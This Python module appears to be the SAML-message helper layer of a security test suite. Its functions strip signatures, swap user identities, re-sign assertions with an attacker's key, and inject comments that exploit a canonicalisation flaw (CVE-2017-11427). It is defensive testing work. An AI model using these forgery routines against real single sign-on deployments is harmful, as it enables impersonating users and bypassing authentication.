"""SAML messages as the suite handles them: parsed safely, changed in place, re-signed, encoded.

Every hostile message starts from a real one: the genuine Response the sandbox IdP auto-posts at sign-in,
or one it minted with the tenant's real key. The helpers here change it as an attacker would — strip a
signature, swap the identity, sign with the attacker's own key, slip a comment into a value — without
ever talking to the sandbox.

Example::

    root = parse(genuine_xml)
    swap_identity(assertion_of(root), member.values, victim.values)
    strip_signatures(root)
    encode(root)  # base64 for the ACS
"""

from __future__ import annotations

import base64
import secrets

import xmlsec
from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
MD = "urn:oasis:names:tc:SAML:2.0:metadata"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS, "md": MD}
POST_BINDING = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"
REDIRECT_BINDING = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"
EMAIL_FORMAT = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
IDENTITY_ELEMENTS = (f"{{{SAML}}}NameID", f"{{{SAML}}}AttributeValue")


def parse(xml: bytes) -> etree._Element:
    """A message parsed as an SP must parse it: no DTD, no entities, no network, comments kept."""
    parser = etree.XMLParser(
        resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False, remove_comments=False
    )
    return etree.fromstring(xml, parser)


def serialise(root: etree._Element) -> bytes:
    return etree.tostring(root, encoding="UTF-8", xml_declaration=False)


def encode(message: etree._Element | bytes) -> str:
    """Base64 for the HTTP-POST binding's SAMLResponse field (SAML bindings 2.0 §3.5.4)."""
    data = message if isinstance(message, bytes) else serialise(message)
    return base64.b64encode(data).decode()


def new_id(prefix: str = "_evil") -> str:
    return f"{prefix}_{secrets.token_hex(12)}"


def assertion_of(root: etree._Element) -> etree._Element:
    assertion = root.find("saml:Assertion", NS)
    if assertion is None:
        raise ValueError("the response carries no saml:Assertion")
    return assertion


def signature_of(element: etree._Element) -> etree._Element | None:
    """The enveloped signature directly inside ``element`` (where SAML core 2.0 §5.4.1 puts it)."""
    return element.find("ds:Signature", NS)


def strip_signatures(*elements: etree._Element) -> None:
    """Remove the signatures directly inside each of ``elements``."""
    for element in elements:
        signature = signature_of(element)
        if signature is not None:
            element.remove(signature)


def swap_identity(
    element: etree._Element,
    old: dict[str, str],
    new: dict[str, str],
    tags: tuple[str, ...] = IDENTITY_ELEMENTS,
) -> int:
    """Replace, in every NameID and AttributeValue under ``element`` (or only the ``tags`` given), a
    whole value of ``old`` by the same field of ``new`` (email by email, member id by member id…);
    returns how many values were replaced."""
    replacements = {old[field]: new[field] for field in old if field in new and old[field]}
    swapped = 0
    for node in element.iter(*tags):
        if node.text in replacements and len(node) == 0:
            node.text = replacements[node.text]
            swapped += 1
    return swapped


def inject_comment(element: etree._Element, whole: str, cut_after: int) -> int:
    """Split every NameID and AttributeValue equal to ``whole`` with an empty comment after
    ``cut_after`` characters (``victim@x.test<!---->.evil.test``): the signature still verifies, as
    exclusive canonicalisation leaves comments out (CVE-2017-11427 and its siblings)."""
    injected = 0
    for node in element.iter(*IDENTITY_ELEMENTS):
        if node.text == whole:
            node.text = whole[:cut_after]
            comment = etree.Comment("")
            comment.tail = whole[cut_after:]
            node.append(comment)
            injected += 1
    return injected


def sign(root: etree._Element, element: etree._Element, key_pem: str, certificate_pem: str) -> etree._Element:
    """Sign ``element`` as an IdP would (enveloped, exclusive C14N, RSA-SHA256) but with the given key,
    the certificate in KeyInfo: what an attacker does with a key of their own."""
    node_id = element.get("ID")
    signature = xmlsec.template.create(
        root, xmlsec.constants.TransformExclC14N, xmlsec.constants.TransformRsaSha256, ns="ds"
    )
    reference = xmlsec.template.add_reference(signature, xmlsec.constants.TransformSha256, uri=f"#{node_id}")
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
    xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(signature))
    issuer = element.find("saml:Issuer", NS)
    if issuer is not None:
        issuer.addnext(signature)
    else:
        element.insert(0, signature)
    key = xmlsec.Key.from_memory(key_pem.encode(), xmlsec.constants.KeyDataFormatPem)
    key.load_cert_from_memory(certificate_pem.encode(), xmlsec.constants.KeyDataFormatPem)
    context = xmlsec.SignatureContext()
    context.key = key
    xmlsec.tree.add_ids(root, ["ID"])
    context.sign(signature)
    return element
